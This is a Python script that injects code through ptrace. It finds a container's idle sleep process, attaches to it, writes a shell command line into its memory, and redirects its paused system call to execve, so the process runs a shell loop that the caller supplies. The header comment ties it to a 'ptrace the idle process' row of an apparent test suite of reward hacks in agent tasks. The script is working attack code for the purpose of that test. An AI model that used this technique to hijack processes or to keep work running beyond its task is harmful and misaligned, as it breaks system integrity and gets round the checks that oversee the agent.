# Makes the container's idle process (init's first child, sleep) run the
# shell loop of argv[1]: ptrace attaches to it, writes the loop's argv
# below its stack, and restarts its interrupted nanosleep as execve
# (x86_64). The attack of TestTaskRewardHacks' "ptrace the idle process"
# row; it needs the tracer to be the idle process's user.
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs".split()
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in names]
def idle():
    best = None
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            st = open("/proc/%s/stat" % d).read()
        except OSError:
            continue
        comm = st[st.index("(") + 1:st.rindex(")")]
        ppid = int(st[st.rindex(")") + 2:].split()[1])
        if comm == "sleep" and ppid == 1 and (best is None or int(d) < best):
            best = int(d)
    return best
pid = idle()
if pid is None:
    print("no idle process")
    sys.exit(0)
if libc.ptrace(16, pid, None, None) != 0:
    print("ptrace refused:", os.strerror(ctypes.get_errno()))
    sys.exit(0)
os.waitpid(pid, 0x40000000)
regs = Regs()
libc.ptrace(12, pid, None, ctypes.byref(regs))
loop = sys.argv[1].encode()
strs = [b"/bin/sh\0", b"-c\0", loop + b"\0"]
base = (regs.rsp - 65536) & ~15
addrs, blob = [], b""
for s in strs:
    addrs.append(base + len(blob))
    blob += s
while len(blob) % 8:
    blob += b"\0"
argv = base + len(blob)
for a in addrs + [0]:
    blob += a.to_bytes(8, "little")
for i in range(0, len(blob), 8):
    libc.ptrace(5, pid, ctypes.c_void_p(base + i), ctypes.c_void_p(int.from_bytes(blob[i:i + 8], "little")))
regs.rax, regs.orig_rax = 59, 2**64 - 1
regs.rdi, regs.rsi, regs.rdx = addrs[0], argv, 0
regs.rip -= 2
libc.ptrace(13, pid, None, ctypes.byref(regs))
libc.ptrace(17, pid, None, None)
print("the idle process", pid, "now runs the loop")
